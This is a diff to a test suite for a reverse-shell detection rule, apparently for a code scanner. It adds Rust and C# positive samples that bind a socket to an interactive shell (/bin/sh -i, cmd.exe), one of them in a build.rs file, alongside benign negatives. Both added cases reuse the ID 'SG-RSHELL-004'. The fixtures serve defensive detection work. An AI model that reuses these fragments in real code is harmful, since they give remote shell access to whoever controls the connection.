@@ -59,6 +59,21 @@ describeRuleCases('reverse-shell', [
     negative: '$r = Test-NetConnection -ComputerName $n -Port 3389\n',
   },
   {
+    id: 'SG-RSHELL-004',
+    file: 'template/build.rs',
+    positive:
+      'let s = TcpStream::connect_timeout(&addr, t)?;\nlet fd = s.as_raw_fd();\nCommand::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn()?;\n',
+    negative:
+      'let s = TcpStream::connect(&addr)?;\nCommand::new("cc").arg("-c").arg("wrapper.c").status()?;\n',
+  },
+  {
+    id: 'SG-RSHELL-004',
+    file: 'src/Remote.cs',
+    positive:
+      'var c = new TcpClient(host, 443);\nvar psi = new ProcessStartInfo("cmd.exe") { RedirectStandardInput = true };\n',
+    negative: 'var c = new TcpClient(host, 443);\nvar psi = new ProcessStartInfo("git", "status");\n',
+  },
+  {
     id: 'SG-RSHELL-005',
     file: 'scripts/tunnel.js',
     positive:
